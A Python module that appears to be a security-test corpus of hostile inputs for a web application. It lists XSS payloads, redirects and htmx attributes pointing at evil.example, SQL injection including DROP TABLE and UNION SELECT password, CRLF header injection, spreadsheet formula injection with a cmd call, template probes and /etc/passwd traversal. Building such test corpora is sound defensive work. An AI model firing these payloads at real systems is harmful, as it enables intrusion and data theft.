"""What people send who mean harm, and numbers that only look like numbers."""

_LINES = r"""
<script>alert(1)</script>
"><img src=x onerror=alert(1)>
'><svg onload=alert(1)>
{{7*7}}
{% csrf_token %}
</title><script>
" hx-get="//evil.example" hx-trigger="load
' autofocus onfocus=alert(1) x='
javascript:alert(1)
<hx-partial hx-target='body'>x</hx-partial>
<!--
]]>
&lt;b&gt;
\u003cscript\u003e
<a href=javascript:alert(1)>
${alert(1)}
`alert(1)`
<template hx>
</textarea><svg/onload=alert(1)>
<iframe srcdoc="<script>alert(1)</script>">
<math><mi//xlink:href="data:x,1">
<base href="//evil.example/">
<meta http-equiv=refresh content="0;url=//evil.example">
<form action=//evil.example><button>x
<style>*{display:none}</style>
<link rel=stylesheet href=//evil.example>
%3Cscript%3Ealert(1)%3C/script%3E
<ScRiPt src=//evil.example></sCrIpT>
<b hx-on:click="alert(1)">x</b>
<div data-hx-get="//evil.example">
&#60;script&#62;
<svg><animate onbegin=alert(1)>
<details open ontoggle=alert(1)>
<object data=//evil.example>
"""
XSS = [*_LINES.strip().splitlines(), "\u2028<script>", "\x00<b>"]

REDIRECTS = [
    "//evil.example",
    "/\\evil.example",
    "https:evil.example",
    "https://evil.example/",
    "javascript:alert(1)",
    "\\\\evil.example",
    "http:///evil.example",
    "////evil.example",
    "/\t/evil.example",
    " //evil.example",
    "data:text/html,x",
    "\thttps://evil.example",
    "http://[x",
]

_WORDS = (
    "- -1 +1 0 0.0 00 01 1e3 1E3 1_0 1,0 1. .5 1..2 0x10 NaN nan Infinity -Infinity 1/2 １２ ١ 0.000000001 1e1000000 true None"
)
NOT_NUMBERS = [
    *_WORDS.split(),
    "",
    " ",
    "1 ",
    " 1",
    "1\u00a0",
    "1\n",
    "1\x00",
    "9" * 13,
    "9" * 60,
    "<b>1</b>",
]

SQL = [
    "' OR 1=1 --",
    "'; SELECT pg_sleep(9); --",
    '") OR ("1"="1',
    "1) UNION SELECT password FROM accounts_user --",
    "id DESC; DROP TABLE orders_order",
    "password__startswith",
    "_connector",
    "__class__",
    "user__password",
    "%' ESCAPE '!",
]

#: What an engine of templates would make :data:`EVALUATED` of.
TEMPLATES = [
    "{{81829*3}}",
    "${81829*3}",
    "#{81829*3}",
    "<%= 81829*3 %>",
    "{% debug %}",
    "%(password)s",
    "{0.__class__}",
    "{request}",
]
EVALUATED = "245487"

HEADERS = [
    "x\r\nX-Evil: 1",
    "x\nSet-Cookie: sessionid=evil",
    "x\r\n\r\n<script>alert(1)</script>",
    "x\u2028X-Evil: 1",
    "x%0d%0aX-Evil:1",
    "\u560d\u560aX-Evil:1",
]

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("//evil.example")',
    "=cmd|' /C calc'!A0",
    "\x00=1+1",
]

#: Control characters, bidirectional marks and what no encoding should carry.
STRANGE = [
    "\x00",
    "a\x00b",
    "\x1b[2J",
    "\x7f\x80\x9f",
    "\u202egnp.exe",
    "\u2066a\u2069",
    "\u200b\ufeff",
    "\ufffe\uffff",
    "\U000e0041",
    "e\u0301" * 50,
    "\U0001f4b8" * 20,
    "ﷺ" * 20,
    "İ",
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "C:\\boot.ini",
    "a" * 10_000,
]

#: Far larger than what is kept, and dear to whoever reads them as numbers.
LONG_NUMBERS = [
    "9" * 100_000,
    "0." + "0" * 100_000 + "1",
    "1e100000000",
    "-9223372036854775809",
    "9223372036854775808",
    "1" + "0" * 400,
]

CORPUS: dict[str, list[str]] = {
    "scripts": XSS,
    "addresses": REDIRECTS,
    "numbers": [*NOT_NUMBERS, *LONG_NUMBERS],
    "SQL": SQL,
    "templates": TEMPLATES,
    "headers": HEADERS,
    "formulas": FORMULAS,
    "strange": STRANGE,
}
EVERYTHING = list(dict.fromkeys(text for texts in CORPUS.values() for text in texts))
#: One or two of each kind: what is tried at every single door in each run.
A_FEW = [
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "//evil.example",
    "javascript:alert(1)",
    "9223372036854775808",
    "9" * 20_000,
    "１２",
    "NaN",
    "' OR 1=1 --",
    "{{81829*3}}",
    "x\r\nX-Evil: 1",
    "=1+1",
    "a\x00b",
    "\u202egnp.exe",
]
